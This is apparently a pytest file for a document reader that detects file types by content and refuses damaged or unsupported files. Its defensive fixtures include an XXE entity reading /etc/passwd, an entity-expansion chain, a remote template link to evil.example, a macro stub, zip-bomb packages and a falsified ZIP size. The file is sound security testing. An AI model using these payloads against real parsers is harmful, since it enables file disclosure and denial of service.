"""Whatever file is brought in: it is known by its content, read or refused in one sentence, and never does harm."""

import random
import re
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest

from corpus.documents.reading import read_document
from corpus.errors import DocumentError
from tests.corpus.office_files import ODT, docx, odt, package, para, run, table

WORD = docx(para("Staff must sign in."))
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;">]>'


def stream(name: str) -> bytes:
    return OLE + name.encode("utf-16-le") + bytes(600)


@pytest.mark.parametrize(
    ("raw", "name"),
    [
        (WORD, "policy.docx"),
        (WORD, "policy.pdf"),
        (odt("<text:p>Staff must sign in.</text:p>"), "policy.docx"),
        (b"<html><p>Staff must sign in.</p></html>", "policy.docx"),
        (b"<!-- saved --><!DOCTYPE HTML><p>Staff must sign in.", "policy.txt"),
        (b"<p>Staff must sign in.</p>", "policy.htm"),
        (b"Staff must sign in.\n", "policy.docx"),
        (b"Staff must sign in.\n", "policy"),
        ("Staff must sign in.\n".encode("utf-16-le"), "policy.txt"),
    ],
)
def test_a_file_is_read_as_what_it_holds_whatever_it_is_called(raw: bytes, name: str) -> None:
    assert read_document(raw, name).text == "Staff must sign in.\n"


@pytest.mark.parametrize(
    ("raw", "says"),
    [
        (b"", "p.docx is empty: choose the file that holds the policy."),
        (bytes(500), "p.docx is empty"),
        (
            stream("WordDocument"),
            r"This is an old Word file \(.doc\): open it in Word, choose Save As, Word Document \(.docx\), and bring",
        ),
        (stream("EncryptedPackage"), "This file is protected by a password: open it, take the password off"),
        (stream("Workbook"), "This is a spreadsheet"),
        (stream("PowerPoint Document"), "This is a slide show"),
        (OLE, "p.docx is not a document that can be read here"),
        (b"{\\rtf1\\ansi Staff}", "This is a Rich Text file"),
        (b"\x89PNG\r\n\x1a\n", "This is a picture"),
        (b"\xff\xd8\xff\xe0", "This is a picture"),
        (b"\0\0\0\x18ftypheic", "This is a picture"),
        (package({"xl/workbook.xml": "<x/>"}), "This is a spreadsheet"),
        (package({"ppt/presentation.xml": "<x/>"}), "This is a slide show"),
        (package({"Index/Document.iwa": "x"}), "This is a Pages file"),
        (package({"mimetype": "application/epub+zip"}), "This is an e-book"),
        (package({"mimetype": ODT.replace("text", "spreadsheet")}), "This is a spreadsheet"),
        (package({"policy.docx": WORD}), "This is a ZIP folder"),
        (b"MIME-Version: 1.0\nContent-Type: multipart/related", "This is a web page saved as one file"),
        (b'<?xml version="1.0"?><w:wordDocument>', "This is a Word file saved as XML"),
        (bytes(range(1, 256)) * 9, "p.docx is not a document that can be read here"),
        (WORD[: len(WORD) // 2], "p.docx is damaged or was not copied whole"),
        (b"PK\x03\x04 and nothing", "p.docx is damaged"),
        (package({f"{number}.xml": "" for number in range(2_001)}), "p.docx unpacks to far more than a policy holds"),
        (docx(" " * 2_000_000 + para("x")), "p.docx unpacks to far more than a policy holds"),
    ],
)
def test_what_cannot_be_read_is_refused_in_one_sentence_that_says_what_to_do(raw: bytes, says: str) -> None:
    with pytest.raises(DocumentError, match=f"^{says}") as told:
        read_document(raw, "p.docx")
    assert "\n" not in str(told.value)
    assert re.search(r": .*(?:choose|bring|copy)", str(told.value))


def test_entities_and_document_types_are_refused_and_nothing_outside_the_file_is_opened() -> None:
    parts = {
        "word/document.xml": f'{ENTITY}<w:document xmlns:w="w"><w:body>&b;</w:body></w:document>',
        "content.xml": f"{ENTITY}<x>&b;</x>",
    }
    for raw, part in ((WORD, "word/document.xml"), (odt("<text:p>x</text:p>"), "content.xml")):
        with pytest.raises(DocumentError, match="is damaged"):
            read_document(changed(raw, {part: parts[part].encode()}), "p.docx")
    page = f"{ENTITY.replace('x [', 'html [')}<html><p>Staff &a; sign in.</p></html>"
    assert "root" not in read_document(page.encode(), "p.html").text


def test_a_part_that_is_larger_than_its_directory_says_is_not_read() -> None:
    lying = bytearray(docx(para("Staff sign in.") + " " * 5_000))
    with ZipFile(BytesIO(bytes(lying))) as packed:
        size = packed.getinfo("word/document.xml").file_size.to_bytes(4, "little")
    at = lying.rindex(size)
    lying[at : at + 4] = (100).to_bytes(4, "little")
    with pytest.raises(DocumentError, match="is damaged"):
        read_document(bytes(lying), "p.docx")


def test_macros_are_left_out_and_said_to_be() -> None:
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="m" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
        '<Relationship Id="t" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    raw = changed(WORD, {"word/_rels/document.xml.rels": relations.encode(), "word/vbaProject.bin": b"Sub AutoOpen"})
    document = read_document(raw, "p.docm")
    assert (document.text, document.ignored) == ("Staff must sign in.\n", ("macros",))


def test_a_letter_that_could_not_be_decoded_is_doubted_in_its_line() -> None:
    document = read_document(b"Staff sign in \x92here\x92.\nPupils \x81 too. " + b"Words. " * 20, "p.txt")
    assert [(doubt.kind, document.text[doubt.at :][:6]) for doubt in document.doubts] == [("letter", "Pupils")]
    assert "here’." in document.text


def changed(raw: bytes, parts: dict[str, bytes]) -> bytes:
    """The package with some parts in place of its own."""
    made = BytesIO()
    with ZipFile(BytesIO(raw)) as old, ZipFile(made, "w", ZIP_DEFLATED) as new:
        for name in {**dict.fromkeys(old.namelist()), **parts}:
            new.writestr(name, parts[name] if name in parts else old.read(name))
    return made.getvalue()


def test_whatever_is_damaged_in_a_file_it_is_read_or_refused() -> None:
    chance = random.Random(7)  # noqa: S311  damage, not secrets
    numbering = '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:lvlText w:val="%1."/></w:lvl></w:abstractNum>'
    numbering += '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
    body = (
        para("Rules:")
        + para("One.", number=1, level=0)
        + para(run("Two", "<w:b/>"), number=1, level=0)
        + table(("A", "B"), ("C", "D"))
    )
    lists = (
        '<text:list-style style:name="L"><text:list-level-style-number text:level="1" style:num-format="1"/></text:list-style>'
    )
    item = (
        '<text:list text:style-name="L"><text:list-item text:start-value="2"><text:p>One.</text:p></text:list-item></text:list>'
    )
    for raw, part in ((docx(body, numbering=numbering), "word/document.xml"), (odt(item * 3, automatic=lists), "content.xml")):
        with ZipFile(BytesIO(raw)) as packed:
            whole = packed.read(part).decode()
        pieces = [*re.findall(r'"[^"]*"|</?[\w:]+>|<[^<>]+/>', whole), '"-1"', '"99999999999"', '"x"', '""']
        for _ in range(60):
            spoilt = bytearray(raw)
            for _ in range(8):
                spoilt[chance.randrange(len(spoilt))] = chance.randrange(256)
            old, new = (chance.choice(pieces) for _ in range(2))
            swapped = changed(raw, {part: whole.replace(old, new, 2).encode()})
            for each in (bytes(spoilt), spoilt[: chance.randrange(len(spoilt))], swapped):
                try:
                    assert read_document(bytes(each), "p.docx").text.strip()
                except DocumentError as refused:
                    assert str(refused).endswith(".")  # noqa: PT017
